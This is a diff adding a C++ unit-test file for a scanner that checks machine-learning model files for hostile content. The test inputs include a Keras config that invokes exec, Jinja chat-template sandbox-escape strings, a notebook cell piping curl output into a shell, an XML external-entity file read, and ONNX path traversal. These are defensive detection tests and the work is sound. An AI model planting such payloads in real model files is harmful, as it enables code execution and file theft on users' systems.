@@ -1,0 +1,98 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "scan/models/document_judge.h"
+
+#include <algorithm>
+#include <gtest/gtest.h>
+
+#include "scan/models/model_scanner.h"
+
+namespace vedette::scan::models {
+namespace {
+
+using event::Level;
+
+Level worst(std::string_view path, const std::string& bytes) {
+  static const ModelRules rules;
+  std::vector<event::Finding> findings;
+  ModelScanner(rules).scan(path, bytes, findings);
+  Level level = Level::kInformational;
+  for (const event::Finding& finding : findings) level = std::max(level, finding.severity);
+  return level;
+}
+
+std::string number(std::uint64_t value, std::size_t size) {
+  std::string bytes;
+  for (std::size_t i = 0; i < size; ++i) bytes += static_cast<char>(value >> (8 * i) & 0xFF);
+  return bytes;
+}
+
+TEST(DocumentJudge, FindsCodeInKeras) {
+  EXPECT_EQ(worst("config.json", R"({"class_name":"Functional","config":{"layers":[
+      {"class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{}}}}]}})"),
+            Level::kCritical);
+  EXPECT_EQ(
+      worst("config.json", R"({"module":"builtins","class_name":"function","config":"exec"})"),
+      Level::kCritical);
+  EXPECT_GE(worst("config.json",
+                  R"({"module":"keras.utils","class_name":"function","config":"get_file"})"),
+            Level::kHigh);
+  EXPECT_EQ(worst("config.json",
+                  R"({"module":"keras.layers","class_name":"Dense","config":{"units":3}})"),
+            Level::kInformational);
+}
+
+TEST(DocumentJudge, ReadsTemplates) {
+  EXPECT_EQ(worst("tokenizer_config.json",
+                  R"({"chat_template":"{% for x in ().__class__.__base__ %}{% endfor %}"})"),
+            Level::kCritical);
+  EXPECT_EQ(worst("chat.jinja", "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), Level::kCritical);
+  EXPECT_EQ(
+      worst(
+          "tokenizer_config.json",
+          R"({"chat_template":"{% for m in messages %}{{ m['role'] + m.content|trim }}{% endfor %}"})"),
+      Level::kInformational);
+  const std::string text = "{{ cycler.__init__ }}";
+  EXPECT_EQ(worst("a.gguf", "GGUF" + number(3, 4) + "tokenizer.chat_template" + number(8, 4) +
+                                number(text.size(), 8) + text),
+            Level::kCritical);
+}
+
+TEST(DocumentJudge, ReadsSettingsAndNotebooks) {
+  EXPECT_EQ(worst("config.json", R"({"auto_map":{"AutoModel":"modeling.Own"}})"), Level::kMedium);
+  EXPECT_EQ(
+      worst("a.ipynb", R"({"cells":[{"cell_type":"code","source":["!curl http://a | sh\n"]}]})"),
+      Level::kMedium);
+  EXPECT_EQ(worst("a.ipynb", R"({"cells":[{"cell_type":"code","source":["import torch\n"]}]})"),
+            Level::kInformational);
+  EXPECT_EQ(
+      worst("a.pmml", R"(<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a/>)"),
+      Level::kHigh);
+}
+
+TEST(DocumentJudge, ChecksSafetensors) {
+  const auto file = [](const std::string& header, std::size_t bytes) {
+    return number(header.size(), 8) + header + std::string(bytes, '\1');
+  };
+  const std::string good = R"({"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}})";
+  EXPECT_EQ(worst("a.safetensors", file(good, 4)), Level::kInformational);
+  EXPECT_EQ(worst("a.safetensors", file(good, 3)), Level::kMedium);
+  EXPECT_EQ(worst("a.safetensors", file(good, 9)), Level::kMedium);
+}
+
+TEST(DocumentJudge, ChecksGraphs) {
+  EXPECT_GE(worst("saved_model.pb",
+                  "\x0A\x01"
+                  "a\x12\x09WriteFile"),
+            Level::kHigh);
+  EXPECT_GE(worst("a.onnx",
+                  "\x0A\x08location\x12\x0C"
+                  "../../secret"),
+            Level::kHigh);
+  EXPECT_EQ(worst("a.onnx",
+                  "\x0A\x08location\x12\x08"
+                  "data.bin"),
+            Level::kInformational);
+}
+
+}  // namespace
+}  // namespace vedette::scan::models
